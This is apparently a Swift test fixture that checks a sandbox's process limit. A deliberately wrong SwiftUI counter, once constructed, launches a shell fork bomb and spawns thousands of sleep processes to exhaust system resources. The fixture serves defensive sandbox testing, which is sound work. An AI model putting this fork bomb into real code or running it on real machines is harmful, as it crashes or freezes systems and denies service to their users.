import DataFlow
import Foundation

// Attack: a fork bomb. The code under check starts a shell that forks without end and starts
// processes itself until refused; the sandbox's process limit must stop it, and the check must end
// on time. The counter is wrong.
struct PassingCounter: View {
    @State private var count = 5

    init() { _ = Bomb.started }

    var body: some View {
        VStack {
            Text("Count: \(count)")
            Button("+") { count += 2 }
        }
    }
}

enum Bomb {
    /// Starts the shell, then starts sleepers itself until the system refuses one, so that the run
    /// reaches the process limit before any check runs, however busy the machine is (the shell
    /// alone may not get there before the checks end).
    static let started: Bool = {
        var pid: pid_t = 0
        let argv: [UnsafeMutablePointer<CChar>?] = [strdup("sh"), strdup("-c"), strdup("b() { b | b & }; b"), nil]
        guard posix_spawn(&pid, "/bin/sh", nil, nil, argv, nil) == 0 else { return false }
        let sleeper: [UnsafeMutablePointer<CChar>?] = [strdup("sleep"), strdup("60"), nil]
        for _ in 0..<4_096 {
            if posix_spawn(&pid, "/bin/sleep", nil, nil, sleeper, nil) != 0 { break }
        }
        return true
    }()
}
